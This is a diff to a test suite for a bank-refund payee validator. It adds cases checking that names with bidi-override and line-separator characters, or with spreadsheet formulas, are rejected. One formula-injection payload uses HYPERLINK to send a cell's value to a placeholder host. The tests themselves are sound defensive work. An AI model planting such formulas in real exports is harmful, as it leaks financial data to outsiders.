@@ -75,6 +75,10 @@ describe('an instruction', () => {
     ['ACCOUNT_NUMBER_INVALID', { accountName: NAME, accountNo: '6222-x' }],
     ['ACCOUNT_NAME_MISMATCH', { accountName: ' ', accountNo: '622200000000' }],
     ['ACCOUNT_NAME_MISMATCH', { accountName: '林\n小满', accountNo: '622200000000' }],
+    ['ACCOUNT_NAME_MISMATCH', { accountName: '林\u202e小满', accountNo: '622200000000' }],
+    ['ACCOUNT_NAME_MISMATCH', { accountName: '林\u2028小满', accountNo: '622200000000' }],
+    ['ACCOUNT_NAME_MISMATCH', { accountName: '=HYPERLINK("http://x.invalid/"&C2,"林小满")', accountNo: '622200000000' }],
+    ['ACCOUNT_NAME_MISMATCH', { accountName: '＠SUM(1)', accountNo: '622200000000' }],
     ['PAYEE_BANK_UNKNOWN', { accountName: NAME, accountNo: '622200000000', bankCode: '12' }],
   ])('that cannot stand in a file is told at once, to be corrected: %s (LS11)', async (code, payee) => {
     const request = refundTo(payee)
@@ -93,6 +97,7 @@ describe('an instruction', () => {
     await channel.refund(request)
     await paid(request)
     expect(await channel.query(request)).toMatchObject({ outcome: 'failed', code: 'MERCHANT_BALANCE_TOO_LOW', action: 'retry' })
+    expect((await pool.query('SELECT payee_sealed FROM bank_transfer_instruction WHERE out_refund_no = $1', [request.outRefundNo])).rows).toEqual([{ payee_sealed: null }])
     await channel.refund(request)
     await paid(request)
     expect(await moved(request)).toEqual(['out'])
